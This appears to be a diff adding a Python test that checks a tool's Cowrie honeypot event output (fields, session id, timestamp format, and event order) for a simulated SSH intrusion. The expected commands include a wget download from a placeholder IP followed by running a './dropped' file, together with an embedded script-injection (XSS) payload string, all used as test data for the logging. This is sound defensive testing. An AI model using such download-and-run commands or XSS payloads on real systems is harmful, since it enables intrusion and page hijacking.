@@ -1,0 +1,53 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""cowrie.py QEBEK MAKE_INTRUSION: sessions in the events of the Cowrie honeypot's log."""
+import json
+import re
+import subprocess
+import sys
+import tempfile
+
+QEBEK, MAKE = sys.argv[1:]
+
+# What Cowrie's reference of output events (docs/OUTPUT.rst of cowrie/cowrie) gives each of these events, and all of them.
+SHARED = {'eventid', 'message', 'sensor', 'timestamp', 'src_ip', 'session'}
+EVENTS = {
+    'cowrie.session.connect': {'src_port', 'dst_ip', 'dst_port'},
+    'cowrie.login.success': {'username', 'password'},
+    'cowrie.command.input': {'input'},
+    'cowrie.command.failed': {'input'},
+    'cowrie.session.closed': {'duration'},
+}
+
+
+def expect(good, text):
+    if not good:
+        raise AssertionError(text)
+
+
+def main():
+    with tempfile.TemporaryDirectory() as path:
+        subprocess.run([MAKE, f'{path}/t', '100'], check=True)
+        done = subprocess.run([QEBEK, 'read', '-e', 'trace=none', '--output', 'cowrie', f'{path}/t'],
+                              stdout=subprocess.PIPE, check=True)
+    events = [json.loads(line) for line in done.stdout.decode().splitlines()]
+    for event in events:
+        missing = (SHARED | EVENTS[event['eventid']]) - set(event)
+        expect(not missing, f'{event["eventid"]} lacks {missing}')
+        expect(event['src_ip'] == '203.0.113.9' and event['protocol'] == 'ssh', f'{event}')
+        expect(re.fullmatch(r'[0-9a-f]{12}', event['session']), f'{event["session"]}')
+        expect(re.fullmatch(r'\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z', event['timestamp']), f'{event["timestamp"]}')
+    expect(len({e['session'] for e in events}) == 1, 'sessions')
+    script = "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
+    told = [(e['eventid'].removeprefix('cowrie.'), e.get('input') or e.get('username') or e.get('dst_port'))
+            for e in events]
+    expect(told == [('session.connect', 22), ('login.success', 'root'), ('command.input', '-sh'),
+                    ('command.input', "wget 'http://198.51.100.7/a b' '" + script.replace("'", "'\\''") + "'"),
+                    ('command.input', "./dropped 'it'\\''s' '\u202e' ''"), ('command.failed', 'nonsense'),
+                    ('session.closed', None)], f'{told}')
+    expect(events[-1]['duration'] >= 0 and events[0]['src_port'] == 50022, f'{events[-1]}')
+    print(f'{len(events)} events')
+
+
+if __name__ == '__main__':
+    main()
